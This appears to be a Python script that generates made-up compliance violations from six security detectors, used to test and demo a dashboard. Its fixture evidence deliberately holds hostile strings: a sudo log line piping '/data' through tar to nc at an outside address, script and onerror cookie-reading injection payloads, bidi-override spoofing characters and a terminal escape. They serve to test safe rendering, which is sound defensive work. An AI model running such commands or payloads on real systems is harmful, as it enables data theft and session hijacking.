"""Made-up violations of six detectors, with hostile evidence among them, for tests and for looking at the pages.

    PYTHONPATH=. python tests/dashboards/demo_data.py demo.sqlite [--serve 8080]
"""

import argparse
import hashlib
import random
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import uvicorn

from dashboards.web.app import app
from schemas import instant
from schemas.control import catalogue
from schemas.violation import Change, Evidence, Severity, State, Transition, Violation
from sinks.sqlite import SqliteStore

NOW = instant.parse("2026-03-18T10:42:17+08:00")
CLAUSES = {
    "repeated_failed_logins": ("CC-18000.3.e", "CC-17010.i.c"),
    "firewall_change_unapproved": ("CC-17010.b.e", "CC-17010.b.b"),
    "root_use_without_approval": ("CC-17020.b.c",),
    "unannounced_web_or_program_change": ("CC-17010.f.b", "CC-19000.10.b"),
    "self_approved_change": ("CC-17010.b.e", "CC-17020.b.c"),
    "log_source_silent": ("CC-17010.i.c", "CC-17010.i.d"),
}
Made = dict[str, Any]


def _id(*parts: object) -> str:
    return hashlib.blake2b("|".join(map(str, parts)).encode(), digest_size=16).hexdigest()


def violation(n: int, at: int, detector: str, subtype: str, severity: Severity, **more: Any) -> Violation:
    """One violation at ``at``; ``more`` overrides any field."""
    identity = _id(detector, n)
    state: State = more.pop("state", State.OPEN)
    change = Change.PENDING if state is State.PENDING else Change.OPENED
    fields: Made = {
        "id": identity,
        "case": identity,
        "anchor": _id("event", n),
        "anchor_time": at,
        "detector": detector,
        "detector_version": "sha256:" + hashlib.sha256(detector.encode()).hexdigest()[:24],
        "subtype": subtype,
        "controls": CLAUSES.get(detector, ()),
        "severity": severity,
        "state": state,
        "subject": {},
        "first_time": at,
        "last_time": at,
        "settle_at": at + 20 * instant.MINUTE,
        "detected_time": at + 2 * instant.SECOND,
        "transition": Transition(number=1, change=change, state=state, time=at + 2 * instant.SECOND, cause=_id("event", n)),
    }
    return Violation(**(fields | more))


def evidence(n: int, at: int, source: str, original: str, **values: str) -> Evidence:
    """One record with the values that were compared."""
    return Evidence(event_id=_id("event", source, n, at), source=source, line=n, time=at, values=values, original=original)


def logins(n: int, at: int, pick: random.Random) -> Violation:
    user = pick.choice(["svc_order", "chen.yt", "oracle", "lin.mh", "admin", "wu\u202egnp.exe", "<script>alert(1)</script>"])
    address = pick.choice(["203.0.113.77", "198.51.100.23", "2001:db8:77::9f", "10.20.4.118"])
    host = pick.choice(["order-gw-02", "bastion-tp1", "web-ordering-01"])
    subtype, severity = pick.choice(
        [("CONTROL_FAILURE", Severity.HIGH), ("ATTACK_SUSPECTED", Severity.MEDIUM), ("ATTACK_SUSPECTED", Severity.MEDIUM), ("GUESSED", Severity.CRITICAL)]
    )
    count = pick.randint(4, 41)
    lines = []
    for attempt in range(1, 5):
        t = at - (4 - attempt) * 3 * instant.SECOND
        outcome = "success" if subtype == "GUESSED" and attempt == 4 else "wrong_password"
        word = "Accepted" if outcome == "success" else "Failed"
        raw = f"<38>{instant.text(t)[:19]}+00:00 {host} sshd[{4411 + attempt}]: {word} password for {user} from {address} port {51000 + attempt} ssh2"
        lines.append(evidence(attempt, t, f"linux/{host}", raw, attempt=str(attempt), outcome=outcome, user=user))
    return violation(
        n, at - 12 * instant.SECOND, "repeated_failed_logins", subtype, severity,
        subject={"host": host, "user": user, "source_ip": address}, **{"source.ip": address, "user.name": user, "host.name": host},
        last_time=at, count=count, evidence=tuple(lines),
    )  # fmt: skip


def firewall(n: int, at: int, pick: random.Random) -> Violation:
    group = pick.choice(["fw-core-ha", "fw-dmz", "fw-branch-tc"])
    subtype, approval, severity = pick.choice(
        [("UNAPPROVED", None, Severity.CRITICAL), ("SCOPE_EXCEEDED", "CHG0031877", Severity.HIGH), ("LATE_APPROVAL", "CHG0031902", Severity.HIGH), ("EXPIRED", "CHG0031640", Severity.HIGH)]
    )
    commit = str(pick.randint(4100, 4999))
    raw = (
        f"1,2026/03/18 09:12:44,007051000113358,CONFIG,0,2561,2026/03/18 09:12:44,10.1.0.9,,set,fw.ops,Web,Succeeded,"
        f" vsys vsys1 rulebase security rules \u202e\u2066tmp-any-any\u2069 , before: action deny , after: action allow\x1b[2J,{commit},0x0"
    )
    compared = {"rule": "tmp-any-any", "action": "deny → allow", "approved_targets": "fw-dmz" if approval else "–", "changed_target": group}
    return violation(
        n, at, "firewall_change_unapproved", subtype, severity,
        subject={"group": group, "commit": commit}, **{"user.name": "fw.ops", "host.name": group},
        persons=("P-1043 Huang Chia-Wei",), approval=approval, reasons=(subtype,) if approval else ("UNAPPROVED",),
        evidence=(evidence(7713 + n, at, f"panos/{group}", raw, **compared),
                  evidence(88, at - 5 * instant.HOUR, "servicenow/change", '{"number":"' + (approval or "CHG0031877") + '","approval":"approved","cmdb_ci":"fw-dmz","u_comment":"請協助開通 <img src=x onerror=alert(document.cookie)>"}', approved_targets="fw-dmz")),
    )  # fmt: skip


def root(n: int, at: int, pick: random.Random) -> Violation:
    host = pick.choice(["db-trade-01", "order-gw-02", "settle-batch"])
    minutes = pick.choice([7, 42, 130])
    subtype, approval, severity = pick.choice(
        [("UNAPPROVED", None, Severity.CRITICAL), ("EXPIRED", "CHG0031555", Severity.MEDIUM), ("EMERGENCY_RATIFIED", "CHG0031960", Severity.MEDIUM), ("WRONG_APPROVER", "CHG0031999", Severity.CRITICAL)]
    )
    begin = at - minutes * instant.MINUTE
    return violation(
        n, begin, "root_use_without_approval", subtype, severity,
        subject={"host": host, "account": "root", "person": "P-2210", "start": instant.text(begin)},
        **{"user.name": "root", "host.name": host}, persons=("P-2210 Tsai Yu-Ting 蔡雨庭",), first_time=begin, last_time=at,
        approval=approval, reasons=(subtype, "SCOPE_EXCEEDED") if subtype == "EXPIRED" else (subtype,), skew_ambiguous=subtype == "EXPIRED",
        evidence=(
            evidence(2, begin, f"linux/{host}", f"<85>1 {instant.text(begin)} {host} sudo 9917 - -   tsai.yt : TTY=pts/3 ; PWD=/home/tsai.yt ; USER=root ; COMMAND=/bin/bash -c 'tar cz /data | nc 203.0.113.9 443'", person="P-2210", account="root", approved_until=instant.text(at - 31 * instant.MINUTE)),
            evidence(3, at, f"linux/{host}", f"<86>1 {instant.text(at)} {host} sudo 9917 - - pam_unix(sudo:session): session closed for user root", session_end=instant.text(at)),
        ),
    )  # fmt: skip


def web_change(n: int, at: int, pick: random.Random) -> Violation:
    path = pick.choice(["/var/www/order/js/quote.min.js", "/opt/order/bin/orderd", "/var/www/order/index.html", "/var/www/order/上傳/﷽\u200b.php"])
    subtype = pick.choice(["UNANNOUNCED", "WRONG_HASH", "NOT_NOTIFIED"])
    old, new = hashlib.sha256(path.encode()).hexdigest(), hashlib.sha256(f"{path}{n}".encode()).hexdigest()
    raw = '{"timestamp":"%s","rule":{"level":7,"id":"550","description":"Integrity checksum changed."},"agent":{"name":"web-ordering-01"},"syscheck":{"path":"%s","event":"modified","sha256_before":"%s","sha256_after":"%s"}}'
    return violation(
        n, at, "unannounced_web_or_program_change", subtype, Severity.HIGH if subtype == "NOT_NOTIFIED" else Severity.CRITICAL,
        subject={"host": "web-ordering-01", "path": path}, **{"host.name": "web-ordering-01"}, reasons=("UNANNOUNCED",),
        evidence=(evidence(41 + n, at, "wazuh.alerts/mgr-1", raw % (instant.text(at), path, old, new), hash_before=old, hash_after=new, released_hash="–"),),
    )  # fmt: skip


def self_approved(n: int, at: int, pick: random.Random) -> Violation:
    approval = f"CHG00{pick.randint(31000, 31999)}"
    return violation(
        n, at, "self_approved_change", "SELF_APPROVED", Severity.CRITICAL,
        subject={"approval": approval}, persons=("P-1043 Huang Chia-Wei", "P-1043 Huang Chia-Wei (fw.ops)"), approval=approval, reasons=("SELF_APPROVED",),
        evidence=(evidence(5, at, "servicenow/change", f'{{"number":"{approval}","requested_by":"huang.cw","assigned_to":"fw.ops","approved_by":"huang.cw"}}', requester="P-1043", implementer="P-1043", approver="P-1043"),),
    )  # fmt: skip


def silent(n: int, at: int, pick: random.Random) -> Violation:
    source = pick.choice(["suricata/ids-core", "panos/fw-branch-tc", "linux/db-trade-01"])
    return violation(
        n, at, "log_source_silent", "SILENT", Severity.HIGH, subject={"source": source}, first_time=at, last_time=at + 40 * instant.MINUTE,
        degraded_sources=(source,),
        evidence=(Evidence(event_id=_id("silence", n), source=source, time=at, values={"last_record": instant.text(at), "expected_per_hour": "1,200", "received": "0"}),),
    )  # fmt: skip


_MAKERS: Mapping[Callable[[int, int, random.Random], Violation], int] = {
    logins: 21, firewall: 12, root: 11, web_change: 8, self_approved: 4, silent: 4,
}  # fmt: skip


def step(current: Violation, change: Change, state: State, at: int, **more: Any) -> Violation:
    """The next document of ``current``."""
    transition = Transition(number=current.transition.number + 1, change=change, state=state, time=at, cause=_id("cause", at))
    return current.model_copy(update={"state": state, "transition": transition} | more)


def violations(now: int = NOW, seed: int = 7) -> list[Violation]:
    """About sixty current documents and their earlier ones, in the order of writing."""
    pick = random.Random(seed)
    makers = [maker for maker, number in _MAKERS.items() for _ in range(number)]
    pick.shuffle(makers)
    documents: list[Violation] = []
    for n, maker in enumerate(makers):
        back = int(24 * instant.HOUR * pick.random() ** 1.4) if n % 3 else int(28 * instant.DAY * pick.random())
        made = maker(n, now - back - instant.MINUTE - n * 1_337, pick)
        fate = n % 10
        documents.append(made)
        if maker in (firewall, root, web_change):
            waiting = made.model_copy(update={"state": State.PENDING, "transition": made.transition.model_copy(update={"change": Change.PENDING, "state": State.PENDING})})
            documents[-1] = waiting
            if back < 30 * instant.MINUTE or fate == 1:
                continue
            state, change = (
                (State.EXCEPTED, Change.OPENED) if fate == 3 else (State.RETRACTED, Change.RETRACTED) if fate == 5 else (State.OPEN, Change.OPENED)
            )
            more: Made = {"exception": "EXC-2026-014"} if state is State.EXCEPTED else {}
            documents.append(step(waiting, change, state, made.settle_at, **more))
        elif maker is logins and fate in (2, 4):
            documents.append(step(made, Change.CHANGED, State.OPEN, made.last_time + instant.MINUTE, count=made.count + 6))
        elif maker is logins and fate == 8:
            successor = violation(
                n + 1000, made.anchor_time - instant.MINUTE, made.detector, made.subtype, made.severity,
                subject=made.subject, last_time=made.last_time, count=made.count + 3, supersedes=made.id, case=made.case, evidence=made.evidence,
            )  # fmt: skip
            documents += [step(made, Change.SUPERSEDED, State.SUPERSEDED, made.last_time + instant.MINUTE, superseded_by=successor.id), successor]
    return documents


def health(now: int = NOW) -> dict[str, Any]:
    """A job that hears most of its sources."""

    def source(name: str, seconds: int, status: str = "watched") -> Made:
        return {"name": name, "feed": name.partition("/")[0], "status": status, "last_seen": now - seconds * instant.SECOND, "lag_s": 0.4}

    return {
        "sources": [
            source("linux/bastion-tp1", 1), source("linux/db-trade-01", 2), source("linux/order-gw-02", 1), source("panos/fw-core-ha", 3),
            source("panos/fw-dmz", 2), source("panos/fw-branch-tc", 5 * 3600, "silent"), source("servicenow/change", 9), source("wazuh.alerts/mgr-1", 4),
            source("suricata/ids-core", 26 * 3600, "blind"), source("hr/export", 3100),
        ],
        "lag_s": 0.42,
        "dead_letters": {"bad_time": 3, "invalid_utf8": 1},
        "detectors": dict.fromkeys(CLAUSES, "") | {"log_source_silent": "1 event parked: KeyError 'expected'"},
    }  # fmt: skip


def assessed(_month: str = "2026-03") -> dict[str, str]:
    """Coverage of the clauses of the six detectors."""
    found = {clause: "monitored" for clauses in CLAUSES.values() for clause in clauses}
    known = {control.id for control in catalogue().controls if control.duty}
    return {clause: status for clause, status in found.items() if clause in known} | {
        "CC-17010.i.d": "degraded", "CC-17010.i.c": "blind", "CC-17010.b.a": "monitored", "CC-18000.4.c": "degraded", "CC-16000.1": "monitored",
    }  # fmt: skip


def fill(store: SqliteStore, now: int = NOW) -> None:
    """Write the whole set."""
    for document in violations(now):
        refused = store.write([document])
        if refused:
            raise ValueError(refused[0])


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("path", type=Path)
    parser.add_argument("--serve", type=int, metavar="PORT")
    options = parser.parse_args()
    store = SqliteStore(options.path)
    fill(store)
    if options.serve:
        pages = app(store, demo=True, health=health, assessed=assessed, now=lambda: NOW, truth_time=lambda: NOW)
        uvicorn.run(pages, host="127.0.0.1", port=options.serve, timeout_graceful_shutdown=1)


if __name__ == "__main__":
    main()
